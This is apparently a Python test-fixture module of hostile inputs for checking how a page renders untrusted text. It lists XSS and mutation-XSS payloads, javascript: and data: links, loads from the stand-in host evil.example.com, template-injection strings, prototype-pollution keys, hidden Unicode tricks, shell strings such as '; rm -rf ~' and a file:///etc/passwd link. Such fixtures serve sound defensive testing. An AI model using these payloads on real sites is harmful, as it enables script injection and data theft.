"""Texts that a hostile publisher writes where a page shows them. Each calls `canary`, if it is run."""

from __future__ import annotations

import base64

ELSEWHERE = "https://evil.example.com"
_CALL = "canary(1)"
_SCRIPT = f"<script>{_CALL}</script>"
_IN_DATA = base64.b64encode(f"<script>parent.{_CALL}</script>".encode()).decode()

MARKUP = (
    _SCRIPT,
    f"<SCRIPT SRC={ELSEWHERE}/x.js></SCRIPT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<img src=x onerror={_CALL}>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_CALL}"><text y=20>x</text></a></svg>',
    f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_CALL}"></iframe>',
    f'<object data="data:text/html;base64,{_IN_DATA}"></object>',
    f'<embed src="{ELSEWHERE}/x.swf">',
    f'<a href="javascript:{_CALL}">x</a>',
    f'<base href="{ELSEWHERE}/">',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    f'<form action="{ELSEWHERE}/"><button autofocus>x</button></form>',
    f'<style>@import url("{ELSEWHERE}/x.css"); * {{ display: none }}</style>',
    f"<details open ontoggle={_CALL}>x</details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<body onload={_CALL}>",
    f"<template><script>{_CALL}</script></template>",
)
BREAKS = (
    f'">{_SCRIPT}',
    f"'>{_SCRIPT}",
    f'" onmouseover="{_CALL}" onfocus="{_CALL}" autofocus="',
    f"' onmouseover='{_CALL}' x='",
    f"</title>{_SCRIPT}",
    f"</textarea>{_SCRIPT}",
    f"</style>{_SCRIPT}",
    f"</script>{_SCRIPT}",
    f"-->{_SCRIPT}",
    f"]]>{_SCRIPT}",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_CALL}&gt;">',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={_CALL} src>">',
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#x3c;script&#x3e;{_CALL}",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\\x3cscript\\x3e{_CALL}",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
)
TEMPLATES = (
    f"${{{_CALL}}}",
    f"`${{{_CALL}}}`",
    f'{{{{constructor.constructor("{_CALL}")()}}}}',
    f"<%= {_CALL} %>",
    f"#{{{_CALL}}}",
    f"';{_CALL};'",
    f'";{_CALL};"',
    f"$({_CALL})",
    f"`{_CALL}`",
)
LINKS = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"java\nscript:{_CALL}",
    f"\x01javascript:{_CALL}",
    f" javascript:{_CALL}",
    f"javascript&colon;{_CALL}",
    f"javascript://example.com/%0a{_CALL}",
    f"https://example.com/\njavascript:{_CALL}",
    f'https://example.com/"onmouseover="{_CALL}',
    f"data:text/html,<script>parent.{_CALL}</script>",
    f"data:text/html;base64,{_IN_DATA}",
    f"vbscript:{_CALL}",
    "file:///etc/passwd",
    "blob:https://evil.example.com/x",
    "//evil.example.com/x",
    "https:evil.example.com",
)
KEYS = ("__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then", "isPrototypeOf")
UNSEEN = (
    "invoice\u202egnp.exe",
    "\u2066left\u2069 \u2067right\u2069",
    "\x1b[31mred\x1b]0;title\x07",
    "nul\x00nul",
    "zero\u200bwidth\ufeff",
    "line\r\nline\u2028line\u2029line\x85line",
    "tab\ttab\x0b\x0c",
    "\U000e0041\U000e0042 tags",
)
SHELL = ("; rm -rf ~", "$(touch x)", "`touch x`", "a && b", "| sh", "a\nb", "--help", "-c evil", "'a'", '"a"', "~", "*")
LONG = (
    "x" * 10_000,
    "\u00e9" * 10_000,
    "Z" + "\u0301" * 5_000,
    "\U0001f3f3\ufe0f\u200d\U0001f308" * 1_000,
    "a b " * 2_500,
)

TEXTS = (
    *MARKUP,
    *BREAKS,
    *TEMPLATES,
    *LINKS,
    *KEYS,
    *UNSEEN,
    *SHELL,
    *LONG,
    "",
    " ",
    "..",
    "../../x",
    "%",
    "%00",
    "?#&",
)
"""All of them."""
